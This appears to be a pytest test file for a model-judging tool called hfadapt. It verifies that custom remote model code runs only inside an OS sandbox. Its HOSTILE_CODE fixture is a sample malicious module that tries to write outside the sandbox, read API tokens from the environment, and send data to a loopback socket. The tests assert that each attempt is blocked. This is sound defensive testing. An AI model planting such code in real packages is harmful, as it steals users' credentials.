"""Remote model code runs only inside the OS sandbox: ``--trust-remote-code`` judges a model
with its own code in a sandboxed worker whose Diagnosis comes back as validated data; a hostile
module can neither write outside, nor read the parent's secrets, nor reach the network; without
the flag nothing runs; ``hfadapt.load`` refuses in-process remote code unless asked."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from hfadapt import isolation, verdicts
from hfadapt.cli import main as cli_main
from hfadapt.errors import UsageError
from hfadapt.judge.options import JudgeOptions
from hfadapt.sweep.options import SweepOptions

needs_bwrap = pytest.mark.skipif(
    isolation.unavailable_reason() is not None,
    reason=f"no OS isolation here: {isolation.unavailable_reason()}",
)

CONFIG_CODE = """
from transformers import BertConfig

class XConfig(BertConfig):
    model_type = "x-custom"
"""
MODEL_CODE = """
from transformers import BertModel
from .configuration_x import XConfig

class XModel(BertModel):
    config_class = XConfig
"""
# At import: write outside, read secrets, call out; then fail with what it saw, so the text
# it could leak is the reason the parent records.
HOSTILE_CODE = """
import os, pathlib, socket
seen = []
try:
    pathlib.Path({sentinel!r}).write_text("escaped")
    seen.append("write done")
except OSError as exc:
    seen.append("write refused " + type(exc).__name__)
seen.append("openai=" + str(os.environ.get("OPENAI_API_KEY")))
seen.append("hf=" + str(os.environ.get("HF_TOKEN")))
try:
    conn = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    conn.sendall(b"exfiltrated")
    conn.close()
    seen.append("connected")
except OSError as exc:
    seen.append("connect refused " + type(exc).__name__)
raise RuntimeError("HOSTILE " + "; ".join(seen))
"""
SECRETS = {"OPENAI_API_KEY": "sk-test-openai-7f3a9c", "HF_TOKEN": "hf_testtoken_51b2e8"}


def _remote(folder: Path, modeling: str) -> Path:
    (folder / "configuration_x.py").write_text(CONFIG_CODE)
    (folder / "modeling_x.py").write_text(modeling)
    cfg = json.loads((folder / "config.json").read_text())
    cfg.update(
        model_type="x-custom",
        auto_map={"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"},
    )
    (folder / "config.json").write_text(json.dumps(cfg))
    return folder


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A loopback TCP listener the hostile code tries to reach; non-blocking accept after."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(4)
    sock.setblocking(False)
    yield sock
    sock.close()


def _connections(sock: socket.socket) -> int:
    count = 0
    while True:
        try:
            conn, _ = sock.accept()
        except BlockingIOError:
            return count
        conn.close()
        count += 1


def _cli(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    import sys

    old = sys.argv
    sys.argv = ["hfadapt", *args]
    try:
        with pytest.raises(SystemExit) as done:
            cli_main()
            raise SystemExit(0)
    finally:
        sys.argv = old
    out = capsys.readouterr()
    return int(done.value.code or 0), out.out, out.err


@needs_bwrap
def test_trusted_remote_code_is_judged_in_the_sandbox(
    tiny_bert: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _remote(tiny_bert, MODEL_CODE)
    db = tmp_path / "runs.db"
    code, out, err = _cli(
        ["diagnose", str(folder), "--trust-remote-code", "--db", str(db), "--json"],
        capsys,
    )
    data = json.loads(out)
    assert data["verdict"] in verdicts.ALL and data["verdict"] not in (
        verdicts.CUSTOM_CODE,
        verdicts.WORKER_CRASHED,
        verdicts.LOAD_FAILED,
    ), (data["verdict"], data["reason"], err)
    assert data["model_type"] == "x-custom", data["model_type"]
    assert data["evidence"]["sandbox"]["isolated"] is True, data["evidence"]["sandbox"]
    # The stock tiny BERT passes with adapters; this subclass is not BertModel, so the
    # attention-mask adapter does not match it and the device rejects the mask cast: the same
    # verdict an in-process run gives. Either way the device ran and its evidence came back.
    assert data["verdict"] in (verdicts.PASS, verdicts.LOWERING_FAILED), data["reason"]
    assert data["metrics"] or data["report"]["violations"], data
    assert "gelu-exact-host" in data["adapters"], data["adapters"]
    timings = data["timings"]
    assert timings["load"] > 0 and "device" in timings, timings
    # total is the parent's wall time: at least what the worker spent, start-up included
    assert timings["total"] >= data["evidence"]["sandbox"]["seconds"] >= timings["in_sandbox"], (
        timings,
        data["evidence"]["sandbox"],
    )
    assert code == data["exit_code"], (code, data["exit_code"])
    assert data["run_id"] is not None


@needs_bwrap
def test_hostile_remote_code_cannot_write_read_secrets_or_connect(
    tiny_bert: Path,
    tmp_path: Path,
    listener: socket.socket,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for key, value in SECRETS.items():
        monkeypatch.setenv(key, value)
    sentinel = tmp_path / "ESCAPED"
    port = listener.getsockname()[1]
    folder = _remote(tiny_bert, HOSTILE_CODE.format(sentinel=str(sentinel), port=port))
    db = tmp_path / "runs.db"
    code, out, err = _cli(
        ["diagnose", str(folder), "--trust-remote-code", "--eager", "--db", str(db), "--json"],
        capsys,
    )
    data = json.loads(out)
    print(f"\nhostile module, as recorded: {data['reason']}")
    # The code did run (its message is the reason), inside the sandbox:
    assert data["verdict"] == verdicts.LOAD_FAILED and "HOSTILE" in data["reason"], data["reason"]
    assert "openai=None" in data["reason"] and "hf=None" in data["reason"], data["reason"]
    assert "connect refused" in data["reason"], data["reason"]
    assert not sentinel.exists(), f"the sandbox wrote {sentinel}: {data['reason']}"
    assert _connections(listener) == 0, "the loopback listener was reached from the sandbox"
    stored = db.read_bytes()
    for value in SECRETS.values():
        assert value not in out and value not in err, f"secret {value[:5]}... in the output"
        assert value.encode() not in stored, f"secret {value[:5]}... in runs.db"
    assert code == 1, (code, err)


def test_without_the_flag_remote_code_never_runs(
    tiny_bert: Path,
    tmp_path: Path,
    listener: socket.socket,
    capsys: pytest.CaptureFixture[str],
) -> None:
    sentinel = tmp_path / "ESCAPED"
    port = listener.getsockname()[1]
    folder = _remote(tiny_bert, HOSTILE_CODE.format(sentinel=str(sentinel), port=port))
    code, out, _ = _cli(
        ["diagnose", str(folder), "--eager", "--db", str(tmp_path / "runs.db"), "--json"], capsys
    )
    data = json.loads(out)
    assert data["verdict"] == verdicts.CUSTOM_CODE, (data["verdict"], data["reason"])
    assert "--trust-remote-code" in data["reason"] + data["next_step"], data
    assert "HOSTILE" not in out
    assert not sentinel.exists() and _connections(listener) == 0
    assert code == 1


def test_no_isolation_refuses_in_one_line(
    tiny_bert: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(isolation, "unavailable_reason", lambda: "bwrap is missing (test)")
    sentinel = tmp_path / "ESCAPED"
    folder = _remote(tiny_bert, HOSTILE_CODE.format(sentinel=str(sentinel), port=9))
    db = tmp_path / "runs.db"
    code, _, err = _cli(["diagnose", str(folder), "--trust-remote-code", "--db", str(db)], capsys)
    assert code == 3, (code, err)  # no sandbox here: something the machine lacks
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "--unsafe-no-isolation" in lines[0], lines
    assert "model's own code" in lines[0], lines
    assert not sentinel.exists()


def test_unsafe_flag_needs_trust_remote_code(
    tiny_bert: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = _cli(["diagnose", str(tiny_bert), "--unsafe-no-isolation"], capsys)
    assert code == 2 and "--trust-remote-code" in err, (code, err)


def test_load_refuses_remote_code_in_process(tiny_bert: Path, tmp_path: Path) -> None:
    import hfadapt.api

    sentinel = tmp_path / "ESCAPED"
    folder = _remote(tiny_bert, HOSTILE_CODE.format(sentinel=str(sentinel), port=9))
    with pytest.raises(UsageError, match=r"trust_remote_code.*run_remote_code_in_process"):
        hfadapt.api.load(folder, trust_remote_code=True, device=None)
    assert not sentinel.exists()


def test_a_custom_runner_cannot_cross_into_the_sandbox(tiny_bert: Path) -> None:
    from hfadapt.judge.diagnose import diagnose

    with pytest.raises(UsageError, match="runner"):
        diagnose(tiny_bert, trust_remote_code=True, runner=lambda *a, **k: None, record=False)


LOW_METRICS = {
    "min_token_cosine": 0.5,
    "mean_token_cosine": 0.7,
    "pooled_cosine": 0.8,
    "max_abs_diff": 1.5,
    "has_nan": False,
    "has_inf": False,
    "tokens": 3,
    "nonfinite_tokens": 0,
    "worst_token": [0, 1],
    "passed": False,
}


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"verdict": "totally_fine"}, "unknown verdict"),
        ({"exit_code": 7}, "exit_code"),
        ({"reason": 3}, "reason is int"),
        ({"adapters": [1]}, "adapters"),
        ({"evidence": "x"}, "evidence is str"),
        ({"verdict": "pass", "metrics": None}, "pass without metrics"),
        ({"verdict": "pass", "metrics": LOW_METRICS}, "disagrees"),
        ({"metrics": {"tokens": 3}}, "missing"),
        ({"metrics": LOW_METRICS}, None),
        ({"divergence": {"module": "x", "rows": {"a": 1}}}, "Divergence.rows is an object"),
    ],
)
def test_the_worker_result_is_validated(change: dict[str, object], message: str | None) -> None:
    from hfadapt.judge.sandboxed import from_data

    good = {
        "model_id": "m",
        "verdict": "load_failed",
        "reason": "r",
        "exit_code": 1,
        "mode": "full",
        "structural": False,
        "execution": "eager",
        "dtype": "fp16",
        "next_step": "",
        "evidence": {"k": 1},
        "adapters": ["a"],
        "timings": {"load": 0.5},
    }
    if message is None:
        diag = from_data({**good, **change})
        assert diag.metrics is not None and diag.metrics.min_token_cosine == 0.5, diag.metrics
        assert diag.metrics.worst_token == (0, 1) and not diag.metrics.passed, diag.metrics
        assert (diag.verdict, diag.timings, diag.adapters) == ("load_failed", {"load": 0.5}, ["a"])
        return
    with pytest.raises((ValueError, TypeError), match=message):
        from_data({**good, **change})


@needs_bwrap
def test_missing_model_is_the_same_input_error_through_the_sandbox(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = _cli(
        [
            "diagnose",
            "org/not-cached-anywhere",
            "--trust-remote-code",
            "--db",
            str(tmp_path / "r.db"),
        ],
        capsys,
    )
    assert code == 2 and "org/not-cached-anywhere" in err, (code, err)
    assert len(err.strip().splitlines()) == 1, err


@needs_bwrap
def test_sweep_judges_custom_code_models_in_the_sandbox(
    sweep_engine: object, fake_worker: str
) -> None:
    from hfadapt.sweep.run import run_sweep
    from hfadapt.sweep.store import done_rows

    plain = run_sweep(sweep_engine, SweepOptions(workers=1, resume=False), worker=fake_worker)
    before = done_rows(sweep_engine, plain.sweep_id)["org/custom"]
    assert before["verdict"] == verdicts.CUSTOM_CODE, before
    trusted = run_sweep(
        sweep_engine,
        SweepOptions(
            judge=JudgeOptions("structural", trust_remote_code=True, localize=False),
            workers=1,
            resume=False,
        ),
        worker=fake_worker,
    )
    row = done_rows(sweep_engine, trusted.sweep_id)["org/custom"]
    # Not in any HF cache and no network inside: judged in the sandbox, where it cannot load.
    assert row["verdict"] == verdicts.LOAD_FAILED, (row["verdict"], row["reason"])
    assert "sandbox" in row["reason"] and "org/custom" in row["reason"], row["reason"]
    assert row["evidence"]["sweep"] == {"role": "direct", "judged_in": "sandbox"}, row["evidence"]
    assert trusted.models == plain.models, (trusted.models, plain.models)


def test_sweep_refuses_unsafe_without_trust(sweep_engine: object, fake_worker: str) -> None:

    with pytest.raises(UsageError, match="`unsafe_no_isolation` applies only with"):
        JudgeOptions("structural", unsafe_no_isolation=True)


def test_load_runs_remote_code_in_process_only_when_asked(
    tiny_bert: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import transformers.dynamic_module_utils as dmu

    import hfadapt.api

    monkeypatch.setattr(dmu, "HF_MODULES_CACHE", str(tmp_path / "modules"))
    folder = _remote(tiny_bert, MODEL_CODE)
    model = hfadapt.api.load(
        folder, trust_remote_code=True, run_remote_code_in_process=True, device=None
    )
    assert type(model).__name__ == "XModel", type(model).__name__


_REAL_SPAWN = isolation.spawn


def _worker_says(monkeypatch: pytest.MonkeyPatch, stdout: str) -> list[dict[str, object]]:
    """The sandboxed judge's worker replaced by one that prints ``stdout`` (unisolated: what
    is tested is how the parent reads a worker's answer); returns the jobs it was given."""
    import sys

    from hfadapt.judge import sandboxed

    jobs: list[dict[str, object]] = []

    def spawn(command: list[str], **kw: object) -> object:
        inputs: Path = kw["inputs"]  # type: ignore[assignment]
        jobs.append(json.loads((inputs / "job.json").read_text()))
        (inputs / "answer.txt").write_text(stdout)
        kw["isolate"] = False
        script = f"import sys; sys.stdout.write(open({str(inputs / 'answer.txt')!r}).read())"
        return _REAL_SPAWN([sys.executable, "-c", script], **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(sandboxed.isolation, "spawn", spawn)
    return jobs


def _judge(model: str) -> object:
    from hfadapt.hub.resolve import HubOptions
    from hfadapt.judge.options import JudgeOptions
    from hfadapt.judge.sandboxed import judge

    options = JudgeOptions(
        execution="eager", localize=False, trust_remote_code=True, unsafe_no_isolation=True
    )
    return judge(model, options, hub=HubOptions())


def test_the_parent_keeps_its_own_model_id_and_survives_a_hostile_answer(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    answer = {
        "model_id": "someone-else/popular-model",  # the worker's claim; never stored as such
        "verdict": "load_failed",
        "reason": "fine \x1b[31mred\x1b[0m",
        "exit_code": 1,
        "mode": "full",
        "structural": False,
        "execution": "eager",
        "dtype": "fp16",
        "next_step": "",
        "evidence": {"deep": [[[[[[[[[[1]]]]]]]]]], "long": "x" * 100_000},
        "adapters": [],
        "timings": {},
    }
    _worker_says(monkeypatch, json.dumps(answer))
    diag = _judge("asked/model")
    assert diag.model_id == "asked/model", diag.model_id  # type: ignore[attr-defined]
    assert "\x1b" not in diag.reason and diag.reason == "fine red", diag.reason  # type: ignore[attr-defined]
    assert len(json.dumps(diag.evidence)) < 10_000, len(json.dumps(diag.evidence))  # type: ignore[attr-defined]
    for hostile in ("[" * 200_000 + "]" * 200_000, "{" * 5000, "not json", ""):
        _worker_says(monkeypatch, hostile)
        diag = _judge("asked/model")
        assert diag.verdict == verdicts.WORKER_CRASHED, (hostile[:20], diag.verdict)  # type: ignore[attr-defined]
        assert diag.model_id == "asked/model"  # type: ignore[attr-defined]


def test_the_sandboxed_judge_gets_a_memory_budget_and_no_token_folder(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from hfadapt.judge import sandboxed

    env = sandboxed._env(True, tmp_path)
    assert env["HF_HOME"] == "/tmp/hf_home" and "HF_TOKEN" not in env, env
    paths = [str(p) for p in sandboxed.worker_readable_paths(env)]
    from huggingface_hub import constants

    assert str(constants.HF_HOME) not in paths, paths  # the folder that holds the token file
    assert env["HF_HUB_CACHE"] == str(constants.HF_HUB_CACHE)
    jobs = _worker_says(monkeypatch, "{}")
    _judge("asked/model")
    assert jobs[0]["memory_mb"] == sandboxed.DEFAULT_MEMORY_MB, jobs


def test_the_worker_result_keeps_the_pipeline_outputs_judged() -> None:
    """A sandboxed run of a model with heads returns its outputs' metrics as JSON: they come
    back as judged outputs (a dict there once broke ``Metrics.passed`` with AttributeError)."""
    from hfadapt.judge.metrics import Metrics
    from hfadapt.judge.output_metrics import Check, OutputMetrics
    from hfadapt.judge.sandboxed import from_data

    dense = OutputMetrics("sentence_embedding", "dense cosine", [Check("cosine", 0.95, 0.99, True)])
    metrics = Metrics(0.999, 0.999, 0.999, 0.01, False, False, 3, 0, (0, 1), outputs=[dense])
    data = {
        "model_id": "m",
        "verdict": "verification_failed",
        "reason": "r",
        "exit_code": 1,
        "mode": "full",
        "structural": False,
        "execution": "eager",
        "dtype": "fp16",
        "next_step": "",
        "evidence": {"pipeline": {"whole": True}},
        "metrics": json.loads(json.dumps(metrics.to_dict())),
    }
    back = from_data(data).metrics
    assert back is not None and not back.passed, back
    assert [o.to_dict() for o in back.outputs] == [dense.to_dict()], back.outputs
    assert back.failure() == metrics.failure() == dense.failure(), back.failure()
    bad = {**data["metrics"], "outputs": [{"output": "x", "metric": "m", "checks": "no"}]}
    with pytest.raises(TypeError, match="checks of output 'x'"):
        from_data({**data, "metrics": bad})
